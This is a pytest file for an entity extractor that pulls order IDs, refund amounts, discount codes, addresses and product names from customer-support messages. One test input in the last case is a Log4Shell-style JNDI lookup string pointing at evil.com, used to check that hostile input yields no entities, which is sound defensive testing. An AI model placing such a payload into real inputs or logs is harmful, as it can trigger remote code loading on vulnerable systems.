from __future__ import annotations

import pytest

from tollgate.hygiene import clean
from tollgate.intent.entities import ENTITY_NAMES, extract_entities


@pytest.mark.parametrize(
    ("text", "order_id"),
    [
        ("Where is my order #A12345?", "A12345"),
        ("where is order 88812345", "88812345"),
        ("My order number is 12345678 and it hasn't arrived", "12345678"),
        ("ORD-55512 still not shipped", "55512"),
        ("ord-A12345 please", "A12345"),
        ("Order: A-12345 please", "A12345"),
        ("order no. 4455667", "4455667"),
        ("Order ID: b98765", "B98765"),
        ("Where is my order? It's #77712", "77712"),
        ("has A12345 shipped yet", "A12345"),
        ("tracking for 99988877 please", "99988877"),
    ],
)
def test_order_id(text: str, order_id: str) -> None:
    assert extract_entities(text).get("order_id") == order_id


@pytest.mark.parametrize(
    "text",
    ["I ordered 3 items 2 weeks ago", "order status please", "my order of 2 shirts", "hello"],
)
def test_no_order_id_without_one(text: str) -> None:
    assert "order_id" not in extract_entities(text)


@pytest.mark.parametrize(
    ("text", "amount"),
    [
        ("I want a refund of $49.99 for order #A12345", "49.99"),
        ("refund 49,99 € please", "49.99"),
        ("€ 120 was taken", "120"),
        ("I was charged 1,299.00 USD twice", "1299.00"),
        ("I paid 1.299,50 EUR", "1299.50"),
        ("Please refund 30 for order 77712345", "30"),
        ("the amount: 12.5", "12.5"),
        ("it cost 80 dollars", "80"),
        ("got charged 45.50 for shipping", "45.50"),
        ("a refund for the 19.99 item", "19.99"),
        ("please refund fifty euros", "50"),
        ("refund me the whole 640 for the fridge", "640"),
        ("I paid 1 299,00 kr", "1299.00"),
    ],
)
def test_amount(text: str, amount: str) -> None:
    assert extract_entities(text).get("amount") == amount


@pytest.mark.parametrize(
    "text",
    [
        "I ordered 3 items 2 weeks ago",
        "paid 3 times already",
        "order 88812345 is late",
        "it happened on 15.01.2024",
        "refund for order #A12345",
        "I bought it 30 days ago, refund please",
        "I returned one of the two lamps",
        "I'd like a bulk discount for 50 mugs",
    ],
)
def test_no_amount_without_money(text: str) -> None:
    assert "amount" not in extract_entities(text)


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("Apply discount code SAVE20 to order #B77777", "SAVE20"),
        ("my promo code 'welcome10' doesn't work", "WELCOME10"),
        ("can you apply SPRING-15 to my order", "SPRING-15"),
        ("coupon: FREESHIP", "FREESHIP"),
        ("the voucher code is XMAS2024 but it failed", "XMAS2024"),
        ("I have a discount WINTER25 that didn't apply", "WINTER25"),
    ],
)
def test_discount_code(text: str, code: str) -> None:
    assert extract_entities(text).get("discount_code") == code


@pytest.mark.parametrize(
    "text",
    [
        "The code didn't work at checkout",
        "I HAVE A CODE THAT DOESNT WORK",
        "my discount code is not valid",
        "order #A12345 please",
    ],
)
def test_no_discount_code_without_a_code(text: str) -> None:
    assert "discount_code" not in extract_entities(text)


@pytest.mark.parametrize(
    ("text", "address"),
    [
        (
            "Please change the address for order #A12345 to 10 Downing Street, London SW1A 2AA. "
            "Thanks!",
            "10 Downing Street, London SW1A 2AA",
        ),
        ("new address: Flat 2, 5 Rue de Rivoli, Paris", "Flat 2, 5 Rue de Rivoli, Paris"),
        ("can you ship it to 221B Baker St, London instead", "221B Baker St, London"),
        ("update my shipping address to 742 Evergreen Terrace", "742 Evergreen Terrace"),
        ("My new delivery address is Hauptstrasse 5, 10115 Berlin", "Hauptstrasse 5, 10115 Berlin"),
        ("deliver order 88812345 to 1 Main Road please", "1 Main Road"),
    ],
)
def test_new_address(text: str, address: str) -> None:
    assert extract_entities(text).get("new_address") == address


@pytest.mark.parametrize(
    "text",
    ["send it to my mom", "I want to return my order", "I need to change my address", "hello"],
)
def test_no_address_without_one(text: str) -> None:
    assert "new_address" not in extract_entities(text)


@pytest.mark.parametrize(
    ("text", "product"),
    [
        ("Do you have the Nike Air Max in size 42?", "Nike Air Max"),
        ("Is the blue hoodie in stock?", "blue hoodie"),
        ("When will the iPhone 15 case be back in stock?", "iPhone 15 case"),
        ("do you still sell gift wrapping?", "gift wrapping"),
        ("Are the wool socks available in red?", "wool socks"),
        ("any news on restocking the Pro Blender 3000?", "Pro Blender 3000"),
    ],
)
def test_product(text: str, product: str) -> None:
    assert extract_entities(text).get("product") == product


def test_several_entities_together_and_only_known_names() -> None:
    found = extract_entities("Refund $20 on order #A12345 and apply code SAVE10")
    assert found == {"order_id": "A12345", "amount": "20", "discount_code": "SAVE10"}
    assert set(found) <= set(ENTITY_NAMES)


def test_works_on_cleaned_text_and_ignores_pii_placeholders() -> None:
    cleaned = clean("ｏｒｄｅｒ ＃Ａ１２３４５, call me on +44 20 7946 0958, card 4111111111111111")
    found = extract_entities(cleaned.text)
    assert found == {"order_id": "A12345"}


@pytest.mark.parametrize("text", ["", "   ", "<PII:EMAIL>", "🔥🔥🔥", "${jndi:ldap://evil.com/a}"])
def test_nothing_from_empty_or_chaos_input(text: str) -> None:
    assert extract_entities(text) == {}
